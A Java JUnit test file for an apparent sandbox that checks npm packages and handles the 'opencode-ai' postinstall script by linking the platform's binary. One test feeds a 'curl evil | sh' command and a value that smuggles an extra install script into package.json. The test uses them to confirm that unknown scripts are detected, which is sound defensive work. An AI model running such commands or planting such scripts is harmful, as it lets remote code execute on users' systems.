package ai.opencode.sandbox.npm;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import ai.opencode.sandbox.archive.TarEntry;
import ai.opencode.sandbox.failure.ResolutionException;
import ai.opencode.sandbox.failure.VerificationException;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Packages whose installation script puts the platform's program in place. */
class KnownInstallScriptTest {

  private static final String ROOT = "usr/local/lib/node_modules/opencode-ai/";
  private static final String SCRIPT =
      "\"hasInstallScript\": true, \"bin\": {\"opencode\": \"bin/opencode.exe\"}, ";
  private static final ANpmTarball OPENCODE =
      withCommand("node ./postinstall.mjs").withFile("bin/opencode.exe", "not installed");

  private static ANpmTarball withCommand(String command) {
    return ANpmTarball.empty("opencode-ai", "1.0.0")
        .withFile("package.json", "{\"scripts\": {\"postinstall\": \"" + command + "\"}}");
  }

  /** OpenCode with packages for platforms: {@code x64}, {@code x64-baseline-musl}. */
  private static ANpmLock opencode(String... platforms) {
    return opencode(List.of(platforms), List.of(platforms));
  }

  private static ANpmLock opencode(List<String> named, List<String> locked) {
    List<String> names = new ArrayList<>();
    named.forEach(each -> names.add("\"opencode-linux-" + each + "\": \"1.0.0\""));
    String optional = "\"optionalDependencies\": {" + String.join(", ", names) + "}";
    ANpmLock lock =
        ANpmLock.asking("opencode-ai")
            .with("node_modules/opencode-ai", OPENCODE, SCRIPT + optional);
    for (String each : locked) {
      String name = "opencode-linux-" + each;
      String platform =
          "\"optional\": true, \"os\": [\"linux\"], \"cpu\": [\""
              + each.replaceFirst("-.*", "")
              + "\"]"
              + (each.endsWith("-musl") ? ", \"libc\": [\"musl\"]" : "");
      lock.with(
          "node_modules/opencode-ai/node_modules/" + name,
          ANpmTarball.named(name).withFile("bin/opencode", "the program for " + each),
          platform);
    }
    return lock;
  }

  private static List<TarEntry> entries(ANpmLock lock, NpmPlatform platform) throws IOException {
    NpmTree tree = NpmTree.global(lock.parse(), platform);
    return UnpackedTree.entries(UnpackedTree.tar(tree, tree.groups().get(0), lock.tarballs()));
  }

  private static TarEntry entry(List<TarEntry> entries, String path) {
    return entries.stream().filter(each -> each.path().equals(path)).findFirst().orElseThrow();
  }

  @ParameterizedTest
  @CsvSource({
    "x64, musl, x64-baseline-musl",
    "x64, glibc, x64-baseline",
    "arm64, musl, arm64-musl",
    "arm64, glibc, arm64"
  })
  void putsTheProgramOfTheImagesPlatformInPlace(String cpu, String libc, String expected)
      throws IOException {
    ANpmLock lock =
        opencode("arm64", "arm64-musl", "x64", "x64-baseline", "x64-baseline-musl", "x64-musl");
    List<TarEntry> entries = entries(lock, new NpmPlatform("linux", cpu, libc));

    assertThat(entry(entries, ROOT + "bin/opencode.exe"))
        .isInstanceOfSatisfying(
            TarEntry.SymbolicLink.class,
            link ->
                assertThat(link.target())
                    .isEqualTo("../node_modules/opencode-linux-" + expected + "/bin/opencode"));
    assertThat(entries)
        .as("the only program")
        .filteredOn(each -> each instanceof TarEntry.File && each.path().endsWith("/opencode"))
        .extracting(TarEntry::path)
        .containsExactly(ROOT + "node_modules/opencode-linux-" + expected + "/bin/opencode");
  }

  @Test
  void theProgramIsExecutableWhateverItsModeInTheTarball() throws IOException {
    List<TarEntry> entries = entries(opencode("x64"), NpmPlatform.glibc("x64"));

    TarEntry program = entry(entries, ROOT + "node_modules/opencode-linux-x64/bin/opencode");
    assertThat(program.attributes().mode()).isEqualTo(0755);
  }

  @Test
  void theCommandLeadsToTheReplacedFile() throws IOException {
    List<TarEntry> entries = entries(opencode("x64"), NpmPlatform.glibc("x64"));

    assertThat(entry(entries, "usr/local/bin/opencode"))
        .isInstanceOfSatisfying(
            TarEntry.SymbolicLink.class,
            link ->
                assertThat(link.target())
                    .isEqualTo("../lib/node_modules/opencode-ai/bin/opencode.exe"));
  }

  @Test
  void takesTheOtherVariantIfTheLockLacksThePreferredOneAndNamesThat() {
    NpmTree tree =
        NpmTree.global(
            opencode(List.of("x64", "x64-baseline"), List.of("x64")).parse(),
            NpmPlatform.glibc("x64"));

    assertThat(tree.packages())
        .extracting(LockedNpmPackage::name)
        .containsExactly("opencode-ai", "opencode-linux-x64");
    assertThat(tree.missing())
        .extracting(MissingOptional::name)
        .containsExactly("opencode-linux-x64-baseline");
  }

  @Test
  void refusesALockWithoutTheProgramOfThePlatform() {
    NpmLock lock = opencode(List.of("x64", "arm64-musl"), List.of("x64")).parse();

    assertThatThrownBy(() -> NpmTree.global(lock, NpmPlatform.musl("arm64")))
        .isInstanceOf(ResolutionException.class)
        .hasMessage(
            "package-lock.json lacks the package opencode-linux-arm64-musl, which contains the"
                + " program of opencode-ai@1.0.0 for linux arm64 musl. Choose a version of"
                + " opencode-ai for which the registry has that package, and create the lock again"
                + " with npm install --package-lock-only.");
  }

  @Test
  void refusesACarrierWithoutTheProgram() {
    ANpmLock lock =
        opencode("x64")
            .with(
                "node_modules/opencode-ai/node_modules/opencode-linux-x64",
                ANpmTarball.named("opencode-linux-x64"),
                "\"optional\": true");

    assertThatThrownBy(() -> entries(lock, NpmPlatform.glibc("x64")))
        .isInstanceOf(VerificationException.class)
        .hasMessageContaining("opencode-linux-x64@1.0.0.tgz does not contain bin/opencode");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "another name | node_modules/other | \"bin\": {\"o\": \"bin/opencode.exe\"}",
        "other commands | node_modules/opencode-ai | \"bin\": {\"o\": \"bin/opencode\"}",
        "no carriers | node_modules/opencode-ai | \"bin\": {\"o\": \"bin/opencode.exe\"}"
      })
  void aPackageOfAnotherLayoutHasAnUnknownScript(String says, String path, String bin)
      throws IOException {
    ANpmLock lock =
        ANpmLock.asking(path.substring("node_modules/".length()))
            .with(path, OPENCODE, "\"hasInstallScript\": true, " + bin);

    assertThat(lock.tree().unknownScripts(lock.tarballs())).as(says).hasSize(1);
  }

  @Test
  void aKnownScriptIsNotReported() throws IOException {
    ANpmLock lock = opencode("x64-musl");

    assertThat(lock.tree().unknownScripts(lock.tarballs())).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "node ./postinstall.mjs && node more.mjs",
        "node ./postinstall.mjs\", \"install\": \"make",
        "curl evil | sh"
      })
  void aKnownPackageWithOtherCommandsHasAnUnknownScript(String command) throws IOException {
    ANpmTarball changed = withCommand(command).withFile("bin/opencode.exe", "not installed");
    ANpmLock lock =
        opencode("x64-musl")
            .with(
                "node_modules/opencode-ai",
                changed,
                SCRIPT + "\"optionalDependencies\": {\"opencode-linux-x64-musl\": \"1.0.0\"}");

    assertThat(lock.tree().unknownScripts(lock.tarballs()))
        .singleElement()
        .satisfies(
            each ->
                assertThat(each.commands().values())
                    .contains(command.substring(0, (command + "\"").indexOf('"'))));
  }

  @Test
  void aPackageWithoutScriptKeepsItsFiles() throws IOException {
    ANpmLock lock =
        ANpmLock.asking("opencode-ai")
            .with(
                "node_modules/opencode-ai",
                OPENCODE,
                "\"bin\": {\"opencode\": \"bin/opencode.exe\"},"
                    + " \"optionalDependencies\": {\"opencode-linux-x64\": \"1\"}")
            .with(
                "node_modules/opencode-ai/node_modules/opencode-linux-x64",
                ANpmTarball.named("opencode-linux-x64").withFile("bin/opencode", "x"),
                "\"optional\": true");

    assertThat(entry(entries(lock, NpmPlatform.glibc("x64")), ROOT + "bin/opencode.exe"))
        .isInstanceOf(TarEntry.File.class);
  }

  @ParameterizedTest
  @CsvSource({
    "tool-linux-x64, true",
    "@tool/linux-x64, true",
    "@tool/linux-x64-musl, true",
    "tool-linux-x86_64, true",
    "tool-linux-amd64, true",
    "tool-linux-aarch64, false",
    "@tool/linux-x64-gnu, false",
    "@tool/linux-arm64, false",
    "@tool/darwin-x64, false",
    "linuxx64, false"
  })
  void namesOptionalPackagesOfThePlatformThatTheLockLacks(String name, boolean missing) {
    ANpmLock lock =
        ANpmLock.asking("tool")
            .with("node_modules/tool", "\"optionalDependencies\": {\"" + name + "\": \"1\"}");

    assertThat(lock.tree().missing()).hasSize(missing ? 1 : 0);
  }
}
